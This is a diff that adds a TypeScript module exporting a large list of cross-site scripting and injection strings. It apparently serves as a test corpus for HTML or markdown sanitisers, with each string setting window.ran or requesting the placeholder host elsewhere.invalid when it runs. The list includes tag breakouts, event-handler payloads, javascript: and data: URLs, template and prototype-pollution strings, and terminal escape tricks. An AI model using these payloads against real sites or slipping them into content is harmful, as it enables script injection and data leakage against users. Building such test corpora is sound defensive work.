@@ -1,0 +1,88 @@
+/** Texts that become a script in pages that put them in without care. Each tells on itself: it sets `window.ran`, opens a dialog or asks for something. */
+
+const RUN = 'window.ran=1';
+const ASK = "fetch('https://elsewhere.invalid/x')";
+
+/** Ways to begin: out of text, an attribute, a script, a style, a comment, a title, a text field, a block of data. */
+const OUT_OF = ['', '">', "'>", '</script>', '</style>', '-->', '</title>', '</textarea>', ']]>', '</pre></code></details>', '`>', '\u003c!-- --\u003e', '" autofocus x="', "'-alert(1)-'"];
+
+const ELEMENTS = [
+	`<script>${RUN}</script>`,
+	`<img src=x onerror=${RUN}>`,
+	`<svg onload=${RUN}>`,
+	`<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
+	`<body onpageshow=${RUN}>`,
+	`<details open ontoggle=${RUN}><summary>x</summary></details>`,
+];
+
+const SINGLE = [
+	`<script src="https://elsewhere.invalid/x.js"></script>`,
+	`<script>${ASK}</script>`,
+	'<link rel=stylesheet href="https://elsewhere.invalid/x.css">',
+	'<link rel=prefetch href="https://elsewhere.invalid/x">',
+	'<img src="https://elsewhere.invalid/x.png">',
+	'<style>@import url(https://elsewhere.invalid/x.css);*{background:url(https://elsewhere.invalid/b)}</style>',
+	'<meta http-equiv=refresh content="0;url=https://elsewhere.invalid/">',
+	`<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
+	'<base href="https://elsewhere.invalid/">',
+	'<form action="https://elsewhere.invalid/"><input type=submit autofocus></form>',
+	`<a href="javascript:${RUN}" id=content>x</a>`,
+	`<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
+	`<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
+	`<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>x</text></a></svg>`,
+	`<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"></use></svg>`,
+	`<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
+	`<object data="javascript:${RUN}"></object>`,
+	`<embed src="javascript:${RUN}">`,
+	`<video><source onerror=${RUN}></video>`,
+	`<audio src=x onerror=${RUN}>`,
+	`<input onfocus=${RUN} autofocus>`,
+	`<marquee onstart=${RUN}>x</marquee>`,
+	`<div style="animation:a" onanimationstart=${RUN}><style>@keyframes a{}</style></div>`,
+	`<template><script>${RUN}</script></template>`,
+	`<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+	`<!--><script>${RUN}</script>-->`,
+	`<!--<script>--!><script>${RUN}</script>`,
+	`<scr\0ipt>${RUN}</scr\0ipt>`,
+	`<img src=x onerror\n=\n${RUN}>`,
+	`<img/src=x/onerror=${RUN}>`,
+	`<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
+	`<<script>${RUN}//<</script>`,
+	`\u2028<script>${RUN}</script>\u2029`,
+	`+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
+	`javascript:${RUN}`,
+	`JaVaScRiPt:${RUN}`,
+	`java\tscript:${RUN}`,
+	`\u0001javascript:${RUN}`,
+	`javascript://%0a${RUN}`,
+	`data:text/html,<script>${RUN}</script>`,
+	`vbscript:${RUN}`,
+	`//elsewhere.invalid/x`,
+	`https://elsewhere.invalid/x`,
+	`[x](javascript:${RUN})`,
+	`![x](https://elsewhere.invalid/x.png)`,
+	`[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=)`,
+	`\`<script>${RUN}</script>\``,
+	`**<img src=x onerror=${RUN}>**`,
+	`\${${RUN}}`,
+	`\`+(${RUN})+\``,
+	`{{constructor.constructor('${RUN}')()}}`,
+	`<%= ${RUN} %>`,
+	`\\";${RUN};//`,
+	`\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
+	`&lt;script&gt;${RUN}&lt;/script&gt;`,
+	`&#60;img src=x onerror=${RUN}&#62;`,
+	`__proto__`,
+	`constructor`,
+	`\x1b]8;;javascript:${RUN}\x1b\\click\x1b]8;;\x1b\\`,
+	`\x1b[31m<img src=x onerror=${RUN}>\x1b[0m`,
+	`\x1b[38;5;"><img src=x onerror=${RUN}>m`,
+	`\ud800<script>${RUN}</script>`,
+	`</script><!--<script>${RUN}`,
+	`"}]]</script><script>${RUN}</script>`,
+	`search" onfocus="${RUN}" autofocus="`,
+	`status good" onmouseover="${RUN}`,
+];
+
+/** 150 of them. */
+export const PAYLOADS: readonly string[] = [...OUT_OF.flatMap(before => ELEMENTS.map(element => `${before}${element}`)), ...SINGLE];
